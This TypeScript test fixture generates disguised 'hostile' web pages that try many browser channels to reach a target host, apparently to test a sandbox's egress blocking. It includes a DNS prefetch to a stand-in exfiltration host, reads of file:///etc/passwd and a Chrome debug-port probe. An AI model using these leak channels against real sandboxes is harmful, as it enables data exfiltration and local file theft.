/** Ways in which a page, once a browser runs it, can try to reach `target` (`host:port`). Each is a script's text. */
type Vector = (target: string) => string;

const element = (tag: string, attributes: Record<string, string>) =>
  `{ const node = document.createElement(${JSON.stringify(tag)}); for (const [name, value] of Object.entries(${JSON.stringify(
    attributes,
  )})) node.setAttribute(name, value); document.body.append(node); }`;
const html = (markup: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)});`;
const worker = (kind: 'Worker' | 'SharedWorker', script: string) =>
  `new ${kind}(URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: 'text/javascript' })));`;

/** By name; the name stands in the path of what each one asks for, so that a leak says where it came from. */
const vectors: Readonly<Record<string, Vector>> = {
  img: (to) =>
    html(
      `<img src="http://${to}/img"><img srcset="http://${to}/srcset 2x"><picture><source srcset="http://${to}/picture"></picture>`,
    ),
  script: (to) => element('script', { src: `http://${to}/script` }),
  css: (to) =>
    html(
      `<link rel="stylesheet" href="http://${to}/css"><style>@import url(http://${to}/import); body { background: url(http://${to}/background); }</style>`,
    ),
  font: (to) =>
    html(`<style>@font-face { font-family: f; src: url(http://${to}/font); } p { font-family: f; }</style><p>f</p>`),
  media: (to) =>
    html(
      `<video src="http://${to}/video" autoplay></video><audio src="http://${to}/audio" autoplay></audio><track src="http://${to}/track">`,
    ),
  object: (to) => html(`<object data="http://${to}/object"></object><embed src="http://${to}/embed">`),
  svg: (to) => html(`<svg><image href="http://${to}/svg"/><use href="http://${to}/use#a"/></svg>`),
  iframe: (to) =>
    html(`<iframe src="http://${to}/iframe"></iframe><iframe srcdoc="<img src='http://${to}/srcdoc'>"></iframe>`),
  fetch: (to) =>
    `fetch('http://${to}/fetch', { mode: 'no-cors' }).catch(() => 0); fetch('http://${to}/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => 0);`,
  xhr: (to) => `const x = new XMLHttpRequest(); x.open('POST', 'http://${to}/xhr'); x.send('x');`,
  eventsource: (to) => `new EventSource('http://${to}/eventsource');`,
  beacon: (to) => `navigator.sendBeacon('http://${to}/beacon', 'x');`,
  ping: (to) =>
    html(`<a id="ping" href="#x" ping="http://${to}/ping">x</a>`) + `document.getElementById('ping').click();`,
  form: (to) =>
    html(
      `<iframe name="sink"></iframe><form id="form" method="post" target="sink" action="http://${to}/form"><input name="a"></form>`,
    ) + `document.getElementById('form').submit();`,
  websocket: (to) => `new WebSocket('ws://${to}/websocket'); new WebSocket('wss://${to}/websocket-tls');`,
  worker: (to) =>
    worker(
      'Worker',
      `fetch('http://${to}/worker', { mode: 'no-cors' }).catch(() => 0); new WebSocket('ws://${to}/worker-websocket');`,
    ),
  sharedworker: (to) =>
    worker('SharedWorker', `fetch('http://${to}/sharedworker', { mode: 'no-cors' }).catch(() => 0);`),
  hints: (to) =>
    html(
      `<link rel="prefetch" href="http://${to}/prefetch"><link rel="preload" as="fetch" href="http://${to}/preload"><link rel="modulepreload" href="http://${to}/modulepreload"><link rel="preconnect" href="http://${to}"><link rel="dns-prefetch" href="//secret.evil.test"><link rel="icon" href="http://${to}/icon"><link rel="manifest" href="http://${to}/manifest">`,
    ),
  speculation: (to) =>
    `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${to}/speculation'] }], prerender: [{ source: 'list', urls: ['http://${to}/prerender'] }] }); document.head.append(s); }`,
  stun: (to) =>
    `{ const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${to}' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); }`,
  turn: (to) =>
    `{ const pc = new RTCPeerConnection({ iceServers: [{ urls: ['turn:${to}?transport=tcp', 'turn:${to}?transport=udp'], username: 'u', credential: 'p' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); }`,
  webtransport: (to) => `try { new WebTransport('https://${to}/webtransport').ready.catch(() => 0); } catch {}`,
  open: (to) => `window.open('http://${to}/open');`,
  download: (to) =>
    html(`<a id="download" download href="http://${to}/download">x</a>`) +
    `document.getElementById('download').click();`,
  serviceworker: (to) => `navigator.serviceWorker?.register('/sw.js?to=${to}').catch(() => 0);`,
  debugport: () => `fetch('http://127.0.0.1:9222/json', { mode: 'no-cors' }).catch(() => 0);`,
  file: () =>
    html('<iframe src="file:///etc/passwd"></iframe><a id="file" href="file:///etc/passwd">x</a>') +
    `document.getElementById('file').click();`,
};

/** Navigations replace the page, so each needs a page of its own. */
const navigations: Readonly<Record<string, Vector>> = {
  location: (to) => `setTimeout(() => { location.href = 'http://${to}/location'; }, 300);`,
  replace: (to) => `setTimeout(() => { location.replace('http://${to}/replace'); }, 300);`,
};

const shell = (
  script: string,
  head = '',
) => `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>${head}</head><body>
<noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div><script>
document.getElementById('root').innerHTML = '<main><article><h1>Harmless</h1>' + '<p>A paragraph of a page that looks like any other and tells nothing of what it does besides.</p>'.repeat(5) + '</article></main>';
try { ${script} } catch {}
</script></body></html>`;

/** Hostile pages by path, for `startSite({pages})`: every vector against every target, drawn by script. */
export function hostilePages(targets: readonly string[]): Record<string, string> {
  const all = Object.entries({ ...vectors, ...navigations });
  return Object.fromEntries(
    all.flatMap(([name, vector]) =>
      targets.map((target, index) => [`/hostile/${name}-${index}.html`, shell(vector(target))]),
    ),
  );
}
